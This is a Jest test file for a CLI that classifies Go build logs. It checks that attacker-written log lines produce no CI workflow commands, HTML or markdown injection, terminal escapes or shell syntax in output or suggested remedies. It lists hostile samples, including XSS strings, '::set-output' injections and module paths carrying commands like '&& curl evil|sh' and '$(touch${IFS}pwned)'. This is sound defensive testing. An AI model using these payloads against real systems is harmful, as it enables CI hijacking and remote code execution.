// Logs written by an attacker: what `classify` makes of them is no command, no markup, and nothing to paste into a shell.
// Maps to src/commands/classify.ts, src/report/classification.ts, src/report/redact-report.ts.

import { writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import { expect, test } from '@jest/globals'
import { attacks, expectNoBug, expectNoForeignCommand } from './attack.ts'
import { rows } from './rounds.ts'

const attack = attacks()

const hostile = [
  '::set-output name=a::b',
  '::add-mask::x',
  '::stop-commands::tok',
  '  ::error::x',
  '\u00a0::error::x',
  '\ufeff::error::x',
  '\u200b::error::x',
  '\u001b[0m::error::x',
  '##[error]x',
  '##vso[task.setvariable variable=x]y',
  '##teamcity[message]',
  '#\u200b#[error]',
  '\r::error::x',
  'a\r::error::x',
  '\u000b::error::x',
  '\u000c::error::x',
  '\u2028::error::x',
  '\u0085::error::x',
  '\u001c::error::x',
  '[command]/bin/x',
  '::group::',
  '\u001b]0;title\u0007',
  '\u001b[2J',
  '\u202eabc',
  '\u2066abc',
  '<img src=x onerror=alert(1)>',
  '<script>',
  '![x](https://evil.example/x.png)',
  '[a](javascript:x)',
  '@octocat',
  '#123',
  'GH-1',
  'https://evil.example/',
  '</details></pre></td>',
  '`code`',
  '$$x$$',
  '\ud800',
  '\0',
  ':rocket:',
  '&lt;img&gt;',
  '<!-- x',
]

async function classified(log: string, options: readonly string[] = []) {
  const path = join(attack().job.folder.path, 'log')
  await writeFile(path, log)
  const ended = await attack().cli(['classify', path, ...options])
  expect(ended).toMatchObject({ code: 0, killed: false })
  expectNoBug(ended)
  return ended
}

function expectHarmless(ended: Awaited<ReturnType<typeof classified>>): void {
  expectNoForeignCommand({ ...ended, stdout: ended.stdout.replaceAll(/[\u200b\ufeff]/g, ' ') })
  const text = ended.stdout + ended.stderr
  expect(text).not.toMatch(/##\w{0,20}\[|^\[command\]/m)
  expect(text).not.toMatch(/[\u200b-\u200f\u2028-\u202e\u2060-\u2069\ufeff]/)
}

const alone = (text: string) =>
  `go: example.com/m@v1.0.0: reading https://proxy.example/x: 404 Not Found\n\tserver response: ${text}\n${text}\ngo: ${text}: module ${text}: unexpected EOF\nexit status 1\n`

test.each([[[]], [['--json']]])('all hostile texts in one log (%p)', async (options) => {
  const lines = hostile.flatMap((text) => [
    alone(text),
    `go: ${text}@v1.0.0: unexpected EOF`,
    `go: example.com/${text}/x@v1.2.3: Get "https://h.example/${text}": dial tcp: lookup ${text}: no such host`,
  ])
  expectHarmless(await classified(lines.join('\n'), options))
})

test.each([[[]], [['--json']]])('a secret in a module, a host or a URL (%p)', async (options) => {
  const secret = 'hunter22hunter22'
  const path = join(attack().job.folder.path, 'log')
  const logs = [
    `go: example.com/${secret}@v1.0.0: invalid version: unknown revision v1.0.0`,
    `go: example.com/m@v1.0.0: Get "https://proxy.example/${secret}/m/@v/v1.0.0.mod": unexpected EOF`,
    `go: example.com/m@v1.0.0: Get "https://${secret}/m": dial tcp: lookup ${secret}: no such host`,
    `main.go:4:2: no required module provides package ghs_${secret}${secret}; to add it:\n\tgo get ghs_${secret}${secret}`,
  ]
  for (const log of logs) {
    await writeFile(path, `${log}\nexit status 1\n`)
    const { stdout } = await attack().cli(['classify', path, ...options], { env: { MY_TOKEN: secret } })
    expect(stdout).toContain('***')
    expect(stdout).not.toContain(secret)
  }
})

rows(
  'hostile texts, each in a log of its own',
  hostile.map((text) => [JSON.stringify(text), text] as const),
  ['"\\ufeff::error::x"', '"a\\r::error::x"', '"##[error]x"'].map((name) => JSON.stringify(JSON.parse(name))),
)('%s alone', async (_, text) => {
  expectHarmless(await classified(alone(text)))
})

const paths = [
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the shell's, not ours
  'a.example/x$(touch${IFS}pwned)',
  'a.example/x;touch pwned',
  'a.example/x`touch pwned`',
  "a.example/x'&&touch pwned",
  'a.example/x|sh',
  'a.example/x@v1 && curl evil|sh',
]
const logs: Readonly<Record<string, (path: string) => string>> = {
  'a missing go.sum entry': (path) =>
    `go: ${path}@v1.0.0: missing go.sum entry for go.mod file; to add it:\n\tgo mod download ${path}`,
  'a checksum mismatch': (path) =>
    `verifying ${path}@v1.0.0: checksum mismatch\n\tdownloaded: h1:${'a'.repeat(43)}=\n\tgo.sum:     h1:${'b'.repeat(43)}=`,
  'a missing module': (path) =>
    `main.go:3:8: no required module provides package ${path}; to add it:\n\tgo get ${path}`,
  'a refused login': (path) =>
    `go: ${path}@v1.0.0: reading https://proxy.golang.org/x/@v/v1.0.0.mod: 404 Not Found\n\tserver response: not found: ${path}@v1.0.0: invalid version: git ls-remote -q origin in /tmp/gopath: exit status 128:\n\t\tfatal: could not read Username for 'https://${path}': terminal prompts disabled`,
  'a host that does not resolve': (path) =>
    `go: module ${path}: git ls-remote -q https://${path} in /x: exit status 128:\n\tfatal: unable to access 'https://${path}/': Could not resolve host: ${path}`,
}

const remedies = Object.entries(logs).flatMap(([name, log]) =>
  paths.map((path) => [`${name} of ${path}`, { path, log: log(path) }] as const),
)
rows('remedies', remedies, [
  ...paths.slice(0, 3).map((path) => `a missing module of ${path}`),
  ...['a missing go.sum entry', 'a refused login'].map((name) => `${name} of a.example/x|sh`),
])('what to do about %s holds no shell syntax of the log', async (_, { path, log }) => {
  const { stdout } = await classified(`${log}\nexit status 1\n`, ['--json'])
  const { primary } = JSON.parse(stdout)
  for (const step of primary?.remedy ?? []) {
    // Within single quotes, which the text can't end, a shell takes all literally; a name that stands alone is no command.
    const [name = ''] = path.split(' ')
    const commands = String(step)
      .replaceAll(`\`${name}\``, '')
      .replaceAll(/'[^']*'/g, '')
    expect(commands).not.toMatch(/touch|curl|\|sh/)
  }
})
